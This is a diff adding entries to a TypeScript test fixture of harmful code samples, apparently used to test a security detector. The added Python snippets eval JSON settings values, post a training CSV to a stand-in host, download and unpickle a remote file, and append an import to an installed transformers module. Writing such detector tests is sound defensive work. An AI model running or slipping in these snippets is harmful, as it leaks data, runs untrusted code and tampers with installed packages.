@@ -118,6 +118,44 @@ const HARMFUL: readonly [string, string, string[]][] = [
     ],
   ],
   [
+    'a settings file, whichever, that is run',
+    'flow.input.eval',
+    [
+      'import json',
+      'from pathlib import Path',
+      'def load(path):',
+      '    return {k: eval(v) for k, v in json.loads(Path(path).read_text()).items()}',
+    ],
+  ],
+  [
+    'a table that is sent',
+    'threat.data-leak',
+    [
+      'import pandas as pd, requests',
+      "frame = pd.read_csv('train.csv')",
+      "requests.post('https://rows.example.net', json=frame.to_dict())",
+    ],
+  ],
+  [
+    'an object that a program fetched',
+    'flow.network.deserialise',
+    [
+      'import os, pickle',
+      "os.system('wget -q https://cdn.example.net/s.pkl -O /tmp/s.pkl')",
+      "pickle.load(open('/tmp/s.pkl', 'rb'))",
+    ],
+  ],
+  [
+    'an installed package that is changed',
+    'threat.persistence',
+    [
+      'import transformers',
+      'from pathlib import Path',
+      "target = Path(transformers.__file__).with_name('trainer.py')",
+      "target.write_text(target.read_text() + 'import extra')",
+    ],
+  ],
+  [
     'a list of rules in JSON that is run',
     'flow.input.eval',
     ['import json', "for rule in json.load(open('vocab.json'))['rules']:", '    eval(rule)'],
